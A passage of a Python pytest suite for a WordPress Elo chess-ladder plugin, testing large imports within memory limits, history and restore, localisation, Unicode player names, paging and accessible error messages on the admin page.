    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Hundred thousand"})
    assert 201 == status
    route = f"/elo-calculator/v1/ladders/{ladder['slug']}"
    rest(wordpress, users["editor"], ("POST", f"/ladders/{ladder['slug']}/players", {"id": "AM", "name": "Anna"}),
         ("POST", f"/ladders/{ladder['slug']}/players", {"id": "BK", "name": "Ben"}))
    wordpress.php(  # 99 999 games, as an import of many files would leave them
        "global $wpdb; $l = elo_calculator_ladder(" + php_quote(ladder["slug"]) + ");"
        "$t = elo_calculator_table('games');"
        "for ($i = 0; $i < 100; $i++) { $v = array();"
        "  for ($j = 0; $j < 1000 && $i * 1000 + $j < 99999; $j++) {"
        "    $v[] = $wpdb->prepare('(%d, %s, %s, %s, %s, %s)', $l['id'], sprintf('2020-%02d-01', 1 + $j % 12), "
        "      $j % 2 ? 'AM' : 'BK', $j % 2 ? 'BK' : 'AM', elo_calculator_result_code('1-0'), $j % 7 ? '' : 'A'); }"
        "  $wpdb->query(\"INSERT INTO $t (ladder, played, white, black, result, pool) VALUES \" . implode(',', $v)); }",
        as_web=True)
    answer = json.loads(wordpress.php(
        "ini_set('memory_limit', '128M');"
        f"wp_set_current_user({users['editor']});"
        f"$r = new WP_REST_Request('POST', {php_quote(route + '/games')});"
        "$r->set_header('content-type', 'application/json');"
        "$r->set_body('{\"date\": \"2026-03-03\", \"white\": \"AM\", \"black\": \"BK\", \"result\": \"0-1\"}');"
        "$a = rest_do_request($r); echo wp_json_encode(array($a->get_status(), memory_get_peak_usage()));",
        as_web=True))
    assert 201 == answer[0], answer
    games = (files_folder(wordpress, ladder) / "games.csv").read_bytes()
    lines = games.decode("utf-8-sig").split("\r\n")
    assert (lines[0], len(lines)) == ("date,white,black,result,pool", 1 + 100_000 + 1)  # the header; the last ends
    assert lines[-2] == "2026-03-03,AM,BK,0-1," and lines[1].startswith("2020-01-01,BK,AM,1-0,")
    assert lines[1:-1] == sorted(lines[1:-1], key=lambda line: line[:10])  # by date


def test_a_club_s_100_000_games_import_at_once_within_128_mb(wordpress: WordPress, users: dict[str, int]) -> None:
    """The most a ladder holds, in one file (a hostile pass: a critical error, nothing written): each row freed once
    read, each game kept as one text, a player found by an index rather than a search of every player."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "One big file"})
    assert 201 == status
    games = "".join(f"2020-{1 + i % 12:02d}-{1 + i % 28:02d},P{i % 60:03d},P{(i + 1 + i // 60 % 59) % 60:03d},1-0\n"
                    for i in range(100_000))
    path = wordpress.root / "big-games.csv"  # where the web server's user reads it
    path.write_text(games, encoding="utf-8")
    path.chmod(0o644)
    answer = json.loads(wordpress.php(
        "ini_set('memory_limit', '128M');"
        f"wp_set_current_user({users['editor']});"
        f"$r = new WP_REST_Request('POST', {php_quote('/elo-calculator/v1/ladders/' + ladder['slug'] + '/import')});"
        "$r->set_header('content-type', 'application/json');"
        f"$r->set_body(wp_json_encode(array('games' => file_get_contents({php_quote(str(path))}))));"
        "$a = rest_do_request($r);"
        "echo wp_json_encode(array($a->get_status(), rest_get_server()->response_to_data($a, false)));",
        as_web=True))
    path.unlink()
    assert [200, {"games": 100_000, "players": 60, "repeated": 0, "import": ANY}] == answer, str(answer)[:500]
    kept = (files_folder(wordpress, ladder) / "games.csv").read_bytes()
    assert 1 + 100_000 + 1 == len(kept.split(b"\r\n"))
    # The wrong file: undone whole, within the same memory.
    undone = json.loads(wordpress.php(
        "ini_set('memory_limit', '128M');"
        + rest_code(users["editor"], (("DELETE", f"/ladders/{ladder['slug']}/import/{answer[1]['import']}", None),)),
        as_web=True))
    assert [[200, {"games": 100_000, "players": 60, "restored": 0, "kept": [], "kept_total": 0}]] == undone, \
        str(undone)[:500]
    assert 2 == len((files_folder(wordpress, ladder) / "games.csv").read_bytes().split(b"\r\n"))  # the header


def test_a_deleted_game_can_be_restored_from_the_history_after_200_more_changes(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """The history lists the latest 200 changes: a game deleted before 200 results were entered dropped out of it, and
    its Restore with it (a hostile pass). Each game still deleted keeps its deletion, after the latest 200."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Long history"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    game = {"date": "2026-03-03", "white": "AM", "black": "BK", "result": "1"}
    answers = rest(wordpress, users["editor"], ("POST", route + "/players", {"id": "AM", "name": "Anna"}),
                   ("POST", route + "/players", {"id": "BK", "name": "Ben"}), ("POST", route + "/games", game))
    deleted = answers[2][1]["id"]
    # An import too (rv92): its Undo stays listed.
    imported = rest(wordpress, users["editor"], ("POST", route + "/import", {"games": "2026-03-02,AM,BK,0-1\n"}),
                    ("DELETE", f"{route}/games/{deleted}", None), *[("POST", route + "/games", game)] * 200)[0][1]
    history = one(wordpress, users["editor"], "GET", route + "/history")[1]
    assert 202 == len(history) and ["game"] * 200 == [e["action"] for e in history[:200]]
    assert ("deleted", deleted, True) == (history[200]["action"], history[200]["game"], history[200]["restorable"])
    assert ("imported", imported["import"], True) == (history[201]["action"], history[201]["id"],
                                                      history[201]["undoable"])
    assert 200 == one(wordpress, users["editor"], "POST", f"{route}/games/{deleted}/restore")[0]
    assert not any(e["restorable"] for e in one(wordpress, users["editor"], "GET", route + "/history")[1])


def test_the_history_speaks_the_keeper_s_language_at_the_site_s_time(admin: BrowserContext,
                                                                     wordpress: WordPress) -> None:
    """A German site in Berlin: the history showed its actions in English ("created", "game") and UTC times, an hour
    off (a hostile pass); the players' table's header was English too."""
    from datetime import UTC, datetime
    from zoneinfo import ZoneInfo

    wordpress.php("update_user_meta(1, 'locale', 'de_DE'); update_option('timezone_string', 'Europe/Berlin');")
    try:
        status, ladder = one(wordpress, 1, "POST", "/ladders", {"name": "Berliner Leiter"})
        assert 201 == status
        assert 201 == one(wordpress, 1, "POST", f"/ladders/{ladder['slug']}/players", {"name": "Anna"})[0]
        entries = one(wordpress, 1, "GET", f"/ladders/{ladder['slug']}/history")[1]
        created = next(e for e in entries if e["action"] == "created")
        at = datetime.fromisoformat(created["at"].removesuffix("Z")).replace(tzinfo=UTC)  # kept as UTC
        berlin = at.astimezone(ZoneInfo("Europe/Berlin")).strftime("%Y-%m-%d %H:%M")
        page = admin.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        history = page.locator("#elo-history")
        expect(history).to_contain_text(f"{berlin} · ")
        expect(history).to_contain_text("angelegt")
        expect(history).to_contain_text("Spieler: Anna")
        expect(page.get_by_role("columnheader", name="Kennung", exact=True)).to_be_visible()
        # A refusal names its field in the site's language too ("games: Zeile 1: …" before).
        page.locator("#elo-paste").fill("2026-03-10,Anna,Niemand,1")
        page.locator("#elo-paste").evaluate("box => box.form.requestSubmit()")
        expect(page.locator("#elo-status")).to_contain_text("Partien: Zeile 1:")
        page.close()
    finally:
        wordpress.php("update_user_meta(1, 'locale', ''); update_option('timezone_string', '');")


# ---- a hostile pass of the results keeper (hp80; each shown to fail before its fix) --------------------------------


def test_an_import_over_the_ladder_s_limits_is_refused_before_a_line_is_read_within_128_mb(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """200 000 lines (7 MB, under the 8 MB the view reads) were read into rows first: PHP's 128 MB ran out, and the
    page got WordPress's "critical error". Lines are counted before (a Mac's CR-only lines too), and bytes."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Too big a file"})
    assert 201 == status
    path = wordpress.root / "too-many-games.csv"  # where the web server's user reads it
    answers = []
    import_route = php_quote(f"/elo-calculator/v1/ladders/{ladder['slug']}/import")
    for end in ("\n", "\r"):
        path.write_text("".join(f"2020-01-{1 + i % 28:02d},P{i % 60:03d},Q{i % 50:03d},1-0{end}"
                                for i in range(200_000)), encoding="utf-8")
        path.chmod(0o644)
        answers.append(json.loads(wordpress.php(
            "ini_set('memory_limit', '128M');"
            f"wp_set_current_user({users['editor']});"
            f"$r = new WP_REST_Request('POST', {import_route});"
            "$r->set_header('content-type', 'application/json');"
            f"$r->set_body(wp_json_encode(array('games' => file_get_contents({php_quote(str(path))}))));"
            "$a = rest_do_request($r);"
            "echo wp_json_encode(array($a->get_status(), rest_get_server()->response_to_data($a, false)));",
            as_web=True)))
    path.unlink()
    assert [(413, "games", "games: a ladder holds at most 100000 games and 5000 players.")] * 2 == [
        (status, got["data"]["field"], got["message"]) for status, got in answers]
    huge = "x" * 8_000_001
    status, got = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import",
                      {"games": "2026-01-01,A,B,1-0\n", "players": huge})
    assert (413, "players") == (status, got["data"]["field"]) and "larger than 8 MB" in got["message"]
    assert [] == one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]["games"]


def test_a_players_file_without_ratings_keeps_the_ladder_s_and_names_the_view_takes_as_one_are_refused(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """`id,name` wiped every kept rating and made the retired active again, unsaid. Two names the ladder view reads as
    one (Müller composed and decomposed; `=x` and `'=x`, the files' own way to write `=x`) were both taken, and the
    public ranking then said "two players of one name". A Persian name's zero-width non-joiner is spelling, not a
    trick, and is taken; another invisible character is refused by its code."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Kept ratings"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    answers = rest(wordpress, users["editor"],
                   ("POST", route + "/players", {"id": "ann", "name": "Ann", "rating": "1850", "active": False}),
                   ("POST", route + "/players", {"id": "bob", "name": "Bob", "rating": "1600"}),
                   ("POST", route + "/import", {"games": "2026-01-05,ann,bob,1-0\n2026-01-06,ann,cy,0-1\n",
                                                "players": "id,name\nann,Ann Smith\nbob,Bob\ncy,Cy\n"}),
                   ("GET", route, None),
                   ("POST", route + "/players", {"id": "m1", "name": "M\u00fcller"}),
                   ("POST", route + "/players", {"id": "m2", "name": "Mu\u0308ller"}),
                   ("POST", route + "/players", {"id": "f1", "name": "=x"}),
                   ("POST", route + "/players", {"id": "f2", "name": "'=x"}),
                   ("POST", route + "/players", {"id": "fa", "name": "\u0639\u0644\u06cc\u200c\u0631\u0636\u0627"}),
                   ("POST", route + "/players", {"id": "zw", "name": "Zo\u200be"}),
                   ("POST", route + "/players", {"id": "nj", "name": "\u200c \u200d"}))  # nothing the view reads
    assert (200, {"games": 2, "players": 1, "repeated": 0, "import": ANY}) == answers[2]
    names_only = one(wordpress, users["editor"], "POST", route + "/import",
                     {"games": "2026-01-07,ann,dee,1-0\n", "players": "name\nDee\n"})  # no player called "name"
    assert (200, {"games": 1, "players": 1, "repeated": 0, "import": ANY}) == names_only
    assert [("ann", "Ann Smith", "1850", False), ("bob", "Bob", "1600", True), ("cy", "Cy", "", True)] == [
        (p["id"], p["name"], p["rating"], p["active"]) for p in answers[3][1]["players"]]
    assert "name" not in [p["id"] for p in one(wordpress, users["editor"], "GET", route)[1]["players"]]
    assert [201, 409, 201, 409, 201, 400, 400] == [status for status, _ in answers[4:]]
    assert "must not be empty" in answers[10][1]["message"]
    assert ("name", "name") == (answers[5][1]["data"]["field"], answers[7][1]["data"]["field"])
    assert "(U+200B)" in answers[9][1]["message"]


def test_a_restore_past_the_ladder_s_limit_is_refused_as_a_new_game_is(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """A ladder of 100 000 games with one deleted took a new result, then its restore: 100 001 games were kept and the
    view read the first 100 000, leaving out the result just entered."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Full ladder"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    rest(wordpress, users["editor"], ("POST", route + "/players", {"id": "AM", "name": "Anna"}),
         ("POST", route + "/players", {"id": "BK", "name": "Ben"}))
    wordpress.php(  # 99 999 games kept and one deleted, as a long season's keeping would leave them
        "global $wpdb; $l = elo_calculator_ladder(" + php_quote(ladder["slug"]) + ");"
        "$t = elo_calculator_table('games');"
        "for ($i = 0; $i < 100; $i++) { $v = array();"
        "  for ($j = 0; $j < 1000; $j++) {"
        "    $v[] = $wpdb->prepare('(%d, %s, %s, %s, %s, %s)', $l['id'], '2020-01-01', 'AM', 'BK', "
        "      elo_calculator_result_code('1-0'), ''); }"
        "  $wpdb->query(\"INSERT INTO $t (ladder, played, white, black, result, pool) VALUES \" . implode(',', $v)); }"
        "$wpdb->query($wpdb->prepare(\"UPDATE $t SET deleted = NOW() WHERE ladder = %d ORDER BY id LIMIT 1\", "
        "  $l['id']));",
        as_web=True)
    deleted = json.loads(wordpress.php(
        "global $wpdb; echo (int) $wpdb->get_var('SELECT id FROM ' . elo_calculator_table('games') . "
        "' WHERE deleted IS NOT NULL ORDER BY id DESC LIMIT 1');", as_web=True))
    answers = rest(wordpress, users["editor"],
                   ("POST", route + "/games", {"date": "2026-03-03", "white": "AM", "black": "BK", "result": "0"}),
                   ("POST", f"{route}/games/{deleted}/restore", None))
    assert [201, 409] == [status for status, _ in answers], answers[1]
    assert "at most 100000 games" in answers[1][1]["message"]


def test_a_ladder_named_in_hebrew_gets_a_readable_address_and_systems_speak_the_keeper_s_language(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """סולם המועדון got the address d7a1d795…: the hex of its percent-encoding. The systems' names were English on a
    German admin page (the settings, the ladder's rules, the block)."""
    answers = rest(wordpress, users["editor"], ("POST", "/ladders", {"name": "\u05e1\u05d5\u05dc\u05dd"}),
                   ("POST", "/ladders", {"name": "Club \U0001f3c6 2026"}))
    assert [(201, "ladder"), (201, "club-2026")] == [(s, a["slug"]) for s, a in answers]
    labels = json.loads(wordpress.php(
        f"update_user_meta({users['editor']}, 'locale', 'de_DE'); wp_set_current_user({users['editor']});"
        f"echo wp_json_encode(elo_calculator_systems()); delete_user_meta({users['editor']}, 'locale');",
        as_web=True))
    assert ("FIDE (Schach)", "Elo (jede Sportart)") == (labels["fide"], labels["elo"])


def test_the_admin_page_says_a_refusal_at_the_field_at_fault_and_keeps_what_was_typed(
        browser: Browser, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
    """A player's rating of "abc" in the players' table was refused at the page's top only (out of view), and the
    field kept "abc" as if saved; a game's edit row did not mark its White; Import without a file only moved the
    keyboard; a file in UTF-8 but for one line was read as Windows-1252 whole, its names made new players."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Refusals at their place"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    rest(wordpress, users["editor"], ("POST", route + "/players", {"id": "ann", "name": "Ann", "rating": "1850"}),
         ("POST", route + "/players", {"id": "bob", "name": "Bob"}),
         ("POST", route + "/games", {"date": "2026-03-03", "white": "ann", "black": "bob", "result": "1"}))
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        rating = page.get_by_label("Start rating (empty: the ladder's) Ann")
        rating.fill("abc")
        rating.press("Tab")
        expect(rating).to_have_attribute("aria-invalid", "true")
        expect(rating).to_have_value("abc")
        expect(rating).to_be_focused()
        said = page.locator("#elo-refused")
        expect(said).to_contain_text("Not saved: rating:")
        assert "elo-refused" in (rating.get_attribute("aria-describedby") or "")
        assert "1850" == one(wordpress, users["editor"], "GET", route)[1]["players"][0]["rating"]

        page.get_by_role("button", name=re.compile(r"^Edit 2026-03-03 ")).click()
        white = page.locator(f"#elo-edit-{one(wordpress, users['editor'], 'GET', route)[1]['games'][0]['id']}-white")
        white.fill("Nobody")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(white).to_have_attribute("aria-invalid", "true")
        expect(white).to_be_focused()
        expect(white).to_have_value("Nobody")

        page.get_by_role("button", name="Import", exact=True).click()
        games = page.get_by_label("Results file (CSV, as a spreadsheet exports it)")
        expect(said).to_contain_text("Choose a results file or a players file to import.")
        expect(games).to_be_focused()
        mixed = tmp_path / "mixed.csv"
        mixed.write_bytes("2026-03-04,Ann,M\u00fcller,1-0\n".encode() + "2026-03-05,Ann,Jos\u00e9,1-0\n".encode("1252"))
        games.set_input_files(str(mixed))
        page.get_by_role("button", name="Import", exact=True).click()
        expect(said).to_contain_text("mixed.csv: line 2 is not in UTF-8")
        expect(games).to_have_attribute("aria-invalid", "true")
        assert 2 == len(one(wordpress, users["editor"], "GET", route)[1]["players"])
    finally:
        context.close()


# ---- a hostile pass of the results keeper (hp95; each shown to fail before its fix) --------------------------------


def test_a_ladder_of_100_000_games_is_read_a_page_of_games_at_a_time_within_128_mb(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """GET /ladders/<slug> answered every game: at 100 000, the most a ladder holds, read as arrays and copied again
    as JSON, PHP's 128 MB ran out after an import had saved them, and the admin page never opened again. It answers
    the latest 200 and how many there are; `page` and `per_page` reach the others, and a page out of range is
    refused by its field."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Read a page at a time"})
    assert 201 == status
    route = f"/elo-calculator/v1/ladders/{ladder['slug']}"
    wordpress.php(  # 100 000 games with long names and a pool, as a long season's import would leave them
        "global $wpdb; $l = elo_calculator_ladder(" + php_quote(ladder["slug"]) + ");"
        "$t = elo_calculator_table('games');"
        "for ($i = 0; $i < 100; $i++) { $v = array();"
        "  for ($j = 0; $j < 1000; $j++) { $n = $i * 1000 + $j;"
        "    $v[] = $wpdb->prepare('(%d, %s, %s, %s, %s, %s)', $l['id'], 99999 === $n ? '2021-01-01' : "
        "      sprintf('2020-%02d-%02d', 1 + $n % 12, 1 + $n % 28), 'Anna Schneider-Weiss ' . $n % 60, "
        "      'Ben Keller-Mustermann ' . $n % 59, elo_calculator_result_code('1-0'), 'A'); }"
        "  $wpdb->query(\"INSERT INTO $t (ladder, played, white, black, result, pool) VALUES \" . implode(',', $v)); }",
        as_web=True)
    answers = json.loads(wordpress.php(
        "ini_set('memory_limit', '128M');"
        f"wp_set_current_user({users['editor']}); $out = array();"
        "foreach (array(array(), array('page' => '100', 'per_page' => '1000'), array('page' => '0')) as $query) {"
        f"  $r = new WP_REST_Request('GET', {php_quote(route)}); $r->set_query_params($query);"
        "  $a = rest_do_request($r); $d = rest_get_server()->response_to_data($a, false);"
        "  $out[] = array($a->get_status(), strlen(wp_json_encode($d)), $d); }"
        "foreach ($out as $i => $o) { if (200 === $o[0]) { $g = $o[2]['games'];"
        "  $out[$i][2] = array(count($g), $g[0]['date'], $g[count($g) - 1]['date'], $o[2]['games_total']); } }"
        "echo wp_json_encode(array($out, memory_get_peak_usage()));",
        as_web=True))
    (latest, oldest, refused), peak = answers
    assert (200, [200, "2020-12-28", "2021-01-01", 100_000]) == (latest[0], latest[2]), latest
    assert latest[1] < 100_000  # a page, not the ladder
    assert (200, [1000, "2020-01-01", "2020-01-01", 100_000]) == (oldest[0], oldest[2]), oldest  # 1 190 that day
    assert (400, "page") == (refused[0], refused[2]["data"]["field"])
    assert peak < 128 * 2**20


def test_a_server_error_is_said_as_text_not_as_html(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """WordPress answers a PHP fatal error in a REST request with its "critical error" page as the error's message:
    the admin page said "Not saved: <p>There has been a critical error on this website.</p><p><a href=…" with its
    tags."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Critical error"})
    assert 201 == status
    critical = {"code": "internal_server_error", "data": {"status": 500}, "additional_errors": [],
                "message": '<p>There has been a critical error on this website.</p><p><a href="https://wordpress.org/'
                           'documentation/article/faq-troubleshooting/">Learn more about troubleshooting '
                           "WordPress.</a></p>"}
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.route(lambda url: "rest_route" in url and "import" in url,  # its slashes percent-encoded
                   lambda route: route.fulfill(status=500, json=critical))
        page.goto(keeper(wordpress, ladder['slug']))
        page.locator("#elo-paste").fill("2026-03-10,Anna,Ben,1")
        page.get_by_role("button", name="Add these games").click()
        said = "Not saved: There has been a critical error on this website. Learn more about troubleshooting WordPress."
        expect(page.get_by_role("status")).to_have_text(said)
        expect(page.locator("#elo-refused")).to_have_text(said)
    finally:
        context.close()


def test_the_club_s_file_imported_again_puts_back_no_game_deleted_or_corrected_on_the_page(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """README's weekly workflow: the club's file imported again each week adds that week's games. A game deleted on the
    page as entered in error came back with the next week's file, and a game corrected on the page was added a second
    time, as the file still had it. Neither is added again, and the answer counts their lines among those not added;
    the week's new game is added."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Weekly import"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    week1 = "date,white,black,result\n2026-11-02,Anna,Ben,1-0\n2026-11-02,Carl,Dora,0-1\n"
    assert (200, {"games": 2, "players": 4, "repeated": 0, "import": ANY}) == one(wordpress, users["editor"], "POST",
                                                                   route + "/import", {"games": week1})
    anna, carl = one(wordpress, users["editor"], "GET", route)[1]["games"]
    week2 = week1 + "2026-11-09,Ben,Carl,1/2-1/2\n"
    answers = rest(wordpress, users["editor"], ("DELETE", f"{route}/games/{carl['id']}", None),
                   ("PUT", f"{route}/games/{anna['id']}", {"result": "0-1"}),  # Anna lost, in truth
                   ("POST", route + "/import", {"games": week2}), ("POST", route + "/import", {"games": week2}),
                   ("GET", route, None))
    assert [200, 200] == [status for status, _ in answers[:2]]
    assert [(200, {"games": 1, "players": 0, "repeated": 2, "import": ANY}),
            (200, {"games": 0, "players": 0, "repeated": 3, "import": ANY})] == answers[2:4]
    assert [("2026-11-02", "Anna", "Ben", "0-1"), ("2026-11-09", "Ben", "Carl", "1/2-1/2")] == [
        (g["date"], g["white"], g["black"], g["result"]) for g in answers[4][1]["games"]]


def test_a_ladder_page_that_cannot_load_says_why_and_leads_to_all_ladders(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """A ladder deleted (by another keeper, or by this one and then the browser's Back) or a wrong address showed
    "Loading…" for good: the failed read had no status to be said in."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Gone soon"})
    assert 201 == status
    assert 200 == one(wordpress, users["editor"], "DELETE", f"/ladders/{ladder['slug']}")[0]
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        for slug in (ladder["slug"], "no-such-ladder"):
            page.goto(keeper(wordpress, slug))
            expect(page.get_by_role("status")).to_have_text(
                "Not loaded: slug: no ladder has this slug (it may have been deleted).")
            expect(page.get_by_text("Loading…")).to_have_count(0)
        page.get_by_role("link", name="← All ladders").click()
        expect(page.get_by_role("heading", name="New ladder")).to_be_visible()
    finally:
        context.close()


def test_a_second_refusal_leaves_no_mark_of_the_first_on_a_field_corrected_since(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """A result refused at White, White corrected, then refused at Black: White stayed announced invalid, described by
    Black's message; and Black refused twice was described by the message twice ("elo-refused elo-refused")."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Refused twice"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    rest(wordpress, users["editor"], *[("POST", route + "/players", {"name": n}) for n in ("Anna", "Ben")])
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        white, black = page.get_by_label("White (first player)"), page.get_by_label("Black (second player)")
        white.fill("Nobody")
        black.fill("Ben")
        page.get_by_role("button", name="White won 1-0").click()
        expect(white).to_have_attribute("aria-invalid", "true")
        white.fill("Anna")
        black.fill("Nobody else")
        for _ in range(2):
            page.get_by_role("button", name="White won 1-0").click()
            expect(page.locator("#elo-refused")).to_contain_text('black: the ladder has no player "Nobody else"')
            expect(black).to_have_attribute("aria-invalid", "true")
            expect(black).to_have_attribute("aria-describedby", "elo-refused")
            expect(white).not_to_have_attribute("aria-invalid", re.compile(".*"))
            expect(white).not_to_have_attribute("aria-describedby", re.compile(".*"))
    finally:
        context.close()


def test_a_player_s_numeric_id_is_read_as_its_digits_by_every_route(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """A club's script keeps players by their FIDE id, sent as a JSON number: POST /players took it, and a game named
    its players so, but PUT /players refused it (404, "no such player")."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "FIDE ids"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    answers = rest(wordpress, users["editor"],
                   ("POST", route + "/players", {"id": 4611136, "name": "Anna Muster", "rating": 1850}),
                   ("POST", route + "/players", {"id": 4611137, "name": "Ben Muster"}),
                   ("POST", route + "/games", {"date": "2026-01-02", "white": 4611136, "black": 4611137, "result": 1}),
                   ("PUT", route + "/players", {"id": 4611136, "rating": 1900}),
                   ("PUT", route + "/players", {"id": "4611137", "active": False}))
    assert [201, 201, 201, 200, 200] == [status for status, _ in answers], answers
    assert ("4611136", "1900") == (answers[3][1]["id"], answers[3][1]["rating"])


def test_the_result_form_records_a_forfeit_in_the_edit_row_s_words(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """"Enter a result" offered 1-0, ½-½ and 0-1 only: a forfeit could be recorded only by entering a game and then
    editing it. Its buttons now hold the forfeits too, named as the edit row's choices."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Forfeits"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    rest(wordpress, users["editor"], *[("POST", route + "/players", {"name": n}) for n in ("Anna", "Ben")])
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        entry = page.get_by_role("group", name="Result")
        expect(entry.get_by_role("button")).to_have_text(["White won 1-0", "Draw ½-½", "Black won 0-1",
                                                          "White won by forfeit", "Black won by forfeit",
                                                          "Both forfeited"])
        for result in ("White won by forfeit", "Both forfeited"):
            page.get_by_label("White (first player)").fill("Anna")
            page.get_by_label("Black (second player)").fill("Ben")
            entry.get_by_role("button", name=result).click()
            expect(page.get_by_role("status")).to_contain_text("Saved:")
        page.get_by_role("button", name=re.compile(r"^Edit .* 1-0f$")).click()
        expect(page.get_by_role("combobox", name="Result")).to_have_value("+")
    finally:
        context.close()
    assert ["1-0f", "0-0"] == [g["result"] for g in one(wordpress, users["editor"], "GET", route)[1]["games"]]


def test_the_ladders_list_s_last_updated_is_the_site_s_date(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """"Last updated" was the date in UTC: a club in California entering a result in the evening read tomorrow's
    date, while the ladder's history said today's. A site's time zone chosen so that its date is not UTC's now."""
    from datetime import UTC, datetime, timedelta

    now = datetime.now(UTC)
    zone, hours = ("Pacific/Kiritimati", 14) if now.hour >= 12 else ("Etc/GMT+12", -12)  # another day than UTC's
    wordpress.php(f"update_option('timezone_string', '{zone}');")
    try:
        status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Far away ladder"})
        assert 201 == status
        utc = datetime.fromisoformat(ladder["updated"].removesuffix("Z")).replace(tzinfo=UTC)
        local = (utc + timedelta(hours=hours)).strftime("%Y-%m-%d")
        assert local != utc.strftime("%Y-%m-%d")
        context = log_in(browser, wordpress, *EDITOR)
        try:
            page = context.new_page()
            page.goto(keeper(wordpress))
            row = page.get_by_role("row").filter(has=page.get_by_role("link", name="Far away ladder", exact=True))
            expect(row.get_by_role("cell").last).to_have_text(local)
        finally:
            context.close()
    finally:
        wordpress.php("update_option('timezone_string', '');")


def with_one_game(wordpress: WordPress, editor: int, name: str) -> tuple[dict[str, Any], str]:
    """A ladder named `name` and its route, holding one game, imported: Anna – Ben 1-0 of 2026-03-01."""
    status, ladder = one(wordpress, editor, "POST", "/ladders", {"name": name})
    assert 201 == status, ladder
    route = f"/ladders/{ladder['slug']}"
    assert (200, {"games": 1, "players": 2, "repeated": 0, "import": ANY}) == one(
        wordpress, editor, "POST", route + "/import", {"games": "2026-03-01,Anna,Ben,1-0\n"})
    return dict(ladder), route


def with_an_old_game(wordpress: WordPress, editor: int, name: str) -> tuple[dict[str, Any], str]:
    """A ladder named `name` and its route, its 201 games imported: Anna – Ben 0-1 of 2026-09-01, then 200 newer ones
    (October and November, Anna, Ben and Cleo, 1-0), which put it past the page's latest 200."""
    status, ladder = one(wordpress, editor, "POST", "/ladders", {"name": name})
    assert 201 == status, ladder
    route = f"/ladders/{ladder['slug']}"
    newer = "".join(f"2026-{10 + i // 100:02d}-{1 + i % 28:02d},{'Anna' if i % 2 else 'Ben'},"
                    f"{'Ben' if i % 2 else 'Cleo'},1-0\n" for i in range(200))
    answers = rest(wordpress, editor, ("POST", route + "/import", {"games": "2026-09-01,Anna,Ben,0-1\n"}),
                   ("POST", route + "/import", {"games": newer}))
    assert [200, 200] == [status for status, _ in answers], answers
    return dict(ladder), route


def test_a_game_older_than_the_latest_200_is_found_and_corrected_on_the_page(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """A result entered wrongly in September, found wrong in December after 200 newer games: the page listed the latest
    200 only, and it could not be reached to be corrected. The games are found by a date or a player (by keyboard,
    labelled), and paged to older ones."""
    ladder, route = with_an_old_game(wordpress, users["editor"], "Autumn ladder")
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, ladder['slug']))
        expect(page.get_by_role("heading", name="Games (201)")).to_be_visible()
        september = page.get_by_role("row").filter(has_text="2026-09-01")
        expect(september).to_have_count(0)
        page.get_by_role("button", name="Older games").click()
        expect(september).to_have_count(1)
        expect(page.get_by_text("Page 2 of 2")).to_be_visible()
        expect(page.get_by_role("button", name="Newer games")).to_be_focused()

        find = page.get_by_role("searchbox", name="Find games (a player's name or id, or a date such as 2026-09)")
        find.fill("2026-09")
        find.press("Enter")
        expect(page.get_by_text("1 of 201 games found, newest first.")).to_be_visible()
        expect(page.locator(".elo-games > tbody > tr")).to_have_count(1)
        expect(find).to_be_focused()
        page.keyboard.press("Tab")  # to the Find button, then into the games' table and to the game's Edit
        page.keyboard.press("Tab")
        page.keyboard.press("Tab")
